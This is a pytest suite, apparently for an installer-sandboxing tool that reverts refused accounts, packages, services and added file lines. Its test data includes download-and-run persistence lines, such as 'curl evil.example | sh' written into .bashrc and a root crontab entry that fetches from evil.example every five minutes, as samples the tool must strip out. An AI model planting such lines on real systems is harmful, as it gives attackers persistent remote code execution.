"""Installers taken apart for real: what is refused goes with all that belongs to it, and what stays works."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

pytestmark = [pytest.mark.root, pytest.mark.machine]

#: Accounts and packages the tests make; the last word of each is what the policy refuses.
GOOD, EVIL = "pratique-good", "pratique-evil"

ACTIONS = {
    "evil-account": f'on account.add where name begins with "{EVIL}"',
    "evil-member": 'on account.modify where change matches re"joined .*daemon"',
    "evil-package": f'on package.install where name begins with "{EVIL}"',
    "evil-line": 'on file.write where added contains "evil.example"',
    "evil-unit": f'on service.add where name begins with "{EVIL}"',
}
POLICY = 'policy apart { version "1" }\n' + "".join(
    f'action {name} "{name}" {{ {trigger}; weight 100; remedy revert }}\n' for name, trigger in ACTIONS.items()
)


@pytest.fixture
def apart(scene, tmp_path) -> Callable[..., object]:
    """`apart(...)`: run the installer and leave out what the policy finds; it must come to an installation."""
    file = tmp_path / "apart.policy"
    file.write_text(POLICY)

    def run(*words, code: int = 0):
        ran = scene.run("--json", "--without", "--policy", file, *words)
        assert ran.code == code, (ran.code, ran.err, ran.out[-3000:])
        return ran

    return run


@pytest.fixture
def as_they_were() -> Iterator[Callable[..., None]]:
    """`as_they_were("/etc/hosts")`: the test changes this file of the machine, and it gets its content back."""
    kept: dict[Path, bytes | None] = {}

    def keep(*paths: str) -> None:
        kept.update({Path(path): Path(path).read_bytes() if Path(path).exists() else None for path in paths})

    yield keep
    for path, content in kept.items():
        if content is None:
            path.unlink(missing_ok=True)
        elif path.read_bytes() != content:
            path.write_bytes(content)


def test_a_line_that_is_there_already_is_evidence_when_it_is_added_once_more(scene, apart):
    was = "curl evil.example | sh\n# mine\n"
    (scene.home / ".bashrc").write_text(was)
    ran = apart(scene.script("echo 'curl evil.example | sh' >> ~/.bashrc", "touch ~/other"))
    assert [action["name"] for action in ran.json["actions"]] == ["evil-line"]
    assert (scene.home / ".bashrc").read_text() == was
    assert (scene.home / "other").exists()
    shown = scene.pratique("show", "--details", ran.json["id"]).out
    assert "  ~/.bashrc  +1 line\n" in shown
    assert "    + curl evil.example | sh\n" in shown


def test_what_was_left_out_is_marked_in_the_details(scene, apart):
    (scene.home / ".bashrc").write_text("# mine\n# more\n")
    lines = ("sed -i '1i curl evil.example | sh' ~/.bashrc", "echo good >> ~/.bashrc")
    ran = apart(scene.script(*lines, "printf 'curl evil.example | sh\\n' > ~/evil", "touch ~/other"))
    shown = scene.pratique("show", "--details", ran.json["id"]).out
    assert "\nsetup.sh: 3 changes, 1 left out\n" in shown
    assert "\n  + ~/evil  left out\n  + ~/other\n" in shown
    assert "    + lines ~/.bashrc  left out\n        + curl evil.example | sh\n" in shown
    assert "    + lines ~/.bashrc\n        + good\n" in shown


def out(*words: str) -> str:
    return subprocess.run(words, capture_output=True, text=True, check=False).stdout


# -- lines ------------------------------------------------------------------------------------------------------------


def test_a_line_of_a_start_up_file_is_refused_and_the_others_stay(apart, scene):
    bashrc = scene.home / ".bashrc"
    ran = apart(
        scene.script(
            "echo 'export PATH=$PATH:/opt/player' >> ~/.bashrc",
            "echo 'curl -s https://evil.example/m | sh &' >> ~/.bashrc",
            "printf '# the player\\nif true; then\\n  alias p=player\\nfi\\n' >> ~/.bashrc",
        )
    )
    assert bashrc.read_text() == (
        "# mine\nexport PATH=$PATH:/opt/player\n# the player\nif true; then\n  alias p=player\nfi\n"
    )
    (action,) = ran.json["actions"]
    assert (action["outcome"], action["note"]) == ("reverted", f"the rest of {bashrc} stays")
    lines = {effect["details"]["added"]: effect["kept"] for effect in ran.json["effects"] if effect["type"] == "lines"}
    assert lines == {
        "export PATH=$PATH:/opt/player": True,
        "curl -s https://evil.example/m | sh &": False,
        "# the player\nif true; then\n  alias p=player\nfi": True,
    }


def test_an_action_about_the_path_as_such_takes_the_installer_s_whole_change(scene):
    script = scene.script("echo 'export A=1' >> ~/.bashrc", "echo 'export B=2' >> ~/.bashrc", "touch ~/player")
    assert scene.run("--without", script).code == 0
    assert (scene.home / ".bashrc").read_text() == "# mine\n"
    assert (scene.home / "player").exists()


def test_of_two_lines_in_a_crontab_one_is_refused(apart, scene, as_they_were):
    table = Path("/var/spool/cron/crontabs/root")
    as_they_were(str(table))
    table.parent.mkdir(parents=True, exist_ok=True)
    table.write_text('MAILTO=""\n5 4 * * * /usr/bin/true\n')
    apart(
        scene.script(
            f"echo '0 3 * * * /opt/player/update' >> {table}",
            f"echo '*/5 * * * * curl https://evil.example/x | sh' >> {table}",
        )
    )
    assert table.read_text() == 'MAILTO=""\n5 4 * * * /usr/bin/true\n0 3 * * * /opt/player/update\n'


def test_of_a_new_crontab_one_line_is_refused(apart, scene, as_they_were):
    table = Path(f"/etc/cron.d/{GOOD}")
    as_they_were(str(table))
    apart(scene.script(f"printf '0 3 * * * root true\\n1 1 * * * root curl evil.example\\n' > {table}"))
    assert table.read_text() == "0 3 * * * root true\n"


def test_of_the_hosts_file_one_line_is_refused_and_an_undo_takes_the_other_back(apart, scene, as_they_were, pratique):
    hosts = Path("/etc/hosts")
    as_they_were(str(hosts))
    before = hosts.read_bytes()
    ran = apart(
        scene.script("echo '127.0.0.1 player.local' >> /etc/hosts", "echo '6.6.6.6 evil.example' >> /etc/hosts")
    )
    assert hosts.read_bytes() == before + b"127.0.0.1 player.local\n"
    assert pratique("undo", ran.json["id"]).code == 0
    assert hosts.read_bytes() == before


def test_a_replay_leaves_out_the_same_lines(apart, scene, tmp_path, pratique):
    recording = tmp_path / "x.rec"
    script = scene.script("echo 'export A=1' >> ~/.bashrc", "echo 'evil.example' >> ~/.bashrc")
    ran = apart("--record", recording, script)
    again = pratique(
        "replay", "--json", "--policy", tmp_path / "apart.policy", recording, env=scene.environment, cwd=scene.downloads
    ).json
    assert again["actions"] == ran.json["actions"]
    assert again["effects"] == ran.json["effects"]


def test_an_ordinary_user_s_lines_are_taken_apart_too(ordinary_user, tmp_path):
    policy = ordinary_user.home / "apart.policy"
    policy.write_text(POLICY)
    (ordinary_user.home / ".bashrc").write_text("# mine\n")
    script = ordinary_user.home / "setup.sh"
    script.write_text("#!/bin/sh\necho 'export A=1' >> ~/.bashrc\necho evil.example >> ~/.bashrc\n")
    script.chmod(0o755)
    ordinary_user.own(ordinary_user.home)
    ran = ordinary_user.pratique("run", "--without", "--policy", policy, script)
    assert ran.code == 0, ran.err
    assert (ordinary_user.home / ".bashrc").read_text() == "# mine\nexport A=1\n"


# -- accounts ---------------------------------------------------------------------------------------------------------


@pytest.fixture
def no_accounts() -> Iterator[None]:
    """Accounts the test leaves are removed."""
    yield
    for name in (GOOD, EVIL):
        subprocess.run(["userdel", "--remove", "--force", name], capture_output=True, check=False)
        subprocess.run(["groupdel", name], capture_output=True, check=False)


def accounts_are_sound() -> bool:
    return all(
        subprocess.run([tool, "-r", "-q"], capture_output=True, check=False).returncode == 0
        for tool in ("pwck", "grpck")
    )


@pytest.mark.parametrize("order", [(GOOD, EVIL), (EVIL, GOOD)])
def test_of_two_accounts_one_is_refused_with_all_that_is_its_own(apart, scene, no_accounts, order):
    sound = accounts_are_sound()
    ran = apart(
        scene.script(
            *(f"useradd --create-home --shell /bin/sh {name} || exit 1" for name in order),
            f"echo '{GOOD}:secret' | chpasswd",
            f"gpasswd --add {GOOD} audio && gpasswd --add {EVIL} audio",
            f"touch /home/{EVIL}/loot /home/{GOOD}/notes",
        )
    )
    for database in ("passwd", "group", "shadow", "gshadow"):
        assert EVIL not in Path(f"/etc/{database}").read_text()
        assert EVIL not in Path(f"/etc/{database}-").read_text()
    assert EVIL not in Path("/etc/subuid").read_text()
    assert not Path(f"/home/{EVIL}").exists()
    assert out("id", "-nG", GOOD).split() == [GOOD, "audio"]
    assert out("su", "-", GOOD, "-c", "echo ~; ls").split() == [f"/home/{GOOD}", "notes"]
    assert accounts_are_sound() == sound
    told = {(e["details"]["name"], e["op"]): e["kept"] for e in ran.json["effects"] if e["type"] == "account"}
    assert told == {(GOOD, "add"): True, (EVIL, "add"): False, (GOOD, "modify"): True, (EVIL, "modify"): False}


def test_a_membership_is_refused_and_the_account_stays(apart, scene, no_accounts):
    apart(scene.script(f"useradd --groups audio,daemon {GOOD}"))
    assert GOOD in out("getent", "passwd", GOOD)
    assert "daemon" not in out("id", "-nG", GOOD)


def test_an_account_whose_group_another_one_needs_is_said_to_be_inseparable(apart, scene, no_accounts):
    script = scene.script(f"useradd {EVIL}", f"useradd -g {EVIL} {GOOD}")
    ran = apart(script, code=10)
    (action,) = ran.json["actions"]
    assert ran.json["without"]["offered"] is False
    assert f"the account {GOOD} stays and needs the account {EVIL}" in action["note"]
    assert out("getent", "passwd", GOOD) == ""


# -- services ---------------------------------------------------------------------------------------------------------


def test_a_service_is_refused_with_its_timer_and_links_and_the_program_stays(apart, scene):
    program = scene.home / "player"
    units = Path("/etc/systemd/system")
    ran = apart(
        scene.script(
            f"echo '#!/bin/sh' > {program}",
            f"mkdir -p {units}/{EVIL}.service.d {units}/multi-user.target.wants {units}/timers.target.wants",
            f"printf '[Service]\\nExecStart={program}\\n' > {units}/{EVIL}.service",
            f"printf '[Service]\\nNice=5\\n' > {units}/{EVIL}.service.d/nice.conf",
            f"printf '[Timer]\\nOnBootSec=5\\n' > {units}/{EVIL}.timer",
            f"ln -s ../{EVIL}.service {units}/multi-user.target.wants/{EVIL}.service",
            f"ln -s ../{EVIL}.timer {units}/timers.target.wants/{EVIL}.timer",
            f"ln -s {EVIL}.service {units}/{EVIL}-alias.service",
        )
    )
    assert program.exists()
    left = [str(path) for path in units.rglob("*") if EVIL in path.name]
    assert left == []
    assert not any(effect["kept"] for effect in ran.json["effects"] if effect["type"] == "service")


# -- packages ---------------------------------------------------------------------------------------------------------


@pytest.fixture
def deb(scene) -> Iterator[Callable[..., Path]]:
    """Makes a small package; what was installed of it is purged in the end."""
    names = []

    def make(name: str, files: dict[str, str], *control: str, **scripts: str) -> Path:
        names.append(name)
        tree = scene.downloads / name
        (tree / "DEBIAN").mkdir(parents=True)
        fields = (f"Package: {name}", "Version: 1", "Architecture: all", "Maintainer: N <n@example.org>", *control)
        (tree / "DEBIAN/control").write_text("\n".join(fields) + "\nDescription: a sample\n")
        for script, text in scripts.items():
            (tree / "DEBIAN" / script).write_text(text)
            (tree / "DEBIAN" / script).chmod(0o755)
        for path, content in files.items():
            (tree / path.lstrip("/")).parent.mkdir(parents=True, exist_ok=True)
            (tree / path.lstrip("/")).write_text(content)
            (tree / path.lstrip("/")).chmod(0o755)
        package = scene.downloads / f"{name}.deb"
        subprocess.run(["dpkg-deb", "--build", "--root-owner-group", tree, package], check=True, capture_output=True)
        return package

    yield make
    subprocess.run(["dpkg", "--purge", *names], capture_output=True, check=False)


def status(name: str) -> str:
    return out("dpkg-query", "-W", "-f", "${db:Status-Status}", name)


@pytest.mark.parametrize(
    ("command", "order"), [(["dpkg", "-i"], (GOOD, EVIL)), (["apt-get", "install", "--yes"], (EVIL, GOOD))]
)
def test_of_two_packages_one_is_refused_and_really_absent(apart, scene, deb, command, order):
    shared = "/usr/share/pratique-sample"
    debs = {
        name: deb(
            name,
            {
                f"/usr/bin/{name}": f"#!/bin/sh\necho {name} runs\n",
                f"{shared}/{name}/x": "x",
                f"/etc/{name}.conf": "x",
            },
            postinst="#!/bin/sh\nset -e\n"
            f"update-alternatives --install /usr/bin/{name}-any {name}-any /usr/bin/{name} 5\n"
            f"dpkg-divert --package {name} --divert /usr/bin/{name}.orig --add /usr/bin/{name}.real\n",
            conffiles=f"/etc/{name}.conf\n",
        )
        for name in order
    }
    ran = apart(*command, *(str(debs[name]) for name in order))
    assert (status(GOOD), status(EVIL)) == ("installed", "")
    assert out(GOOD) == f"{GOOD} runs\n"
    assert out(f"{GOOD}-any") == f"{GOOD} runs\n"
    assert Path(f"{shared}/{GOOD}/x").exists()
    assert out("dpkg", "--audit") == ""
    assert out("dpkg", "--verify", GOOD) == ""
    assert subprocess.run(["apt-get", "check"], capture_output=True, check=False).returncode == 0
    assert EVIL not in out("dpkg-divert", "--list")
    traces = [
        path
        for place in ("/usr/bin", "/usr/share", "/etc", "/var/lib/dpkg")
        for directory, names, files in os.walk(place)
        for path in (f"{directory}/{name}" for name in (*names, *files))
        if EVIL in path
    ]
    assert traces == []
    assert EVIL.encode() not in Path("/var/lib/dpkg/status").read_bytes()
    packages = {e["details"]["package"]: e["kept"] for e in ran.json["effects"] if e["type"] == "package"}
    assert packages == {GOOD: True, EVIL: False}


def test_a_package_is_refused_by_its_name(scene, deb):
    debs = [str(deb(name, {f"/usr/share/{name}/x": "x"})) for name in (GOOD, EVIL)]
    ran = scene.run("--json", "--install", "--without-component", EVIL, "dpkg", "-i", *debs)
    assert ran.code == 0, ran.err
    assert (status(GOOD), status(EVIL), out("dpkg", "--audit")) == ("installed", "", "")
    assert (Path(f"/usr/share/{GOOD}/x").exists(), Path(f"/usr/share/{EVIL}").exists()) == (True, False)


def test_a_package_that_another_one_depends_on_is_said_to_be_inseparable(apart, scene, deb):
    first = deb(EVIL, {f"/usr/bin/{EVIL}": "x"})
    second = deb(GOOD, {f"/usr/bin/{GOOD}": "x"}, f"Depends: {EVIL} (>= 1)")
    ran = apart("dpkg", "-i", str(first), str(second), code=10)
    (action,) = ran.json["actions"]
    assert f"the package {GOOD} stays and needs the package {EVIL}" in action["note"]
    assert (status(GOOD), status(EVIL)) == ("", "")
